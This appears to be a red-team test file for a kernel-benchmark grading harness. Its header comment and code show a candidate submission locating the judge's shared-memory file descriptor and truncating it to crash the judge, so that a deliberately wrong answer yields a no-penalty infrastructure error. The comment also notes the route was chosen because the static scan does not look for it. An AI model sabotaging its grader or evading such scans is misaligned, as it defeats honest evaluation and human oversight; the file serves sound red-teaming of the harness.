# Attack on the judge's shared memory (red team, session 28): the runner keeps the judge's memfd
# open (mmap holds a duplicate), and the candidate shrinks it to nothing. Before the memfd was
# sealed, the judge's next touch of its own mapping was a SIGBUS: a dead judge, no verdict, and
# the server's infra_error (no penalty) instead of this wrong answer's -1. Python stands in for
# a C++ extension (readlink + ftruncate), which the static scan does not look for.
import os

import torch


def shrink_the_judges_memory():
    tried = 0
    for fd in os.listdir("/proc/self/fd"):
        try:
            if "kgym-io" not in os.readlink(f"/proc/self/fd/{fd}"):
                continue
        except OSError:  # the listing's own descriptor, gone by now
            continue
        tried += 1
        try:
            os.ftruncate(int(fd), 0)
            print("SHRUNK", fd, flush=True)
        except OSError as exc:
            print("REFUSED", fd, exc, flush=True)
    print("TRIED", tried, flush=True)


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        shrink_the_judges_memory()

    def forward(self, x):
        return torch.zeros_like(x)  # wrong on purpose: the honest verdict is INCORRECT (-1)
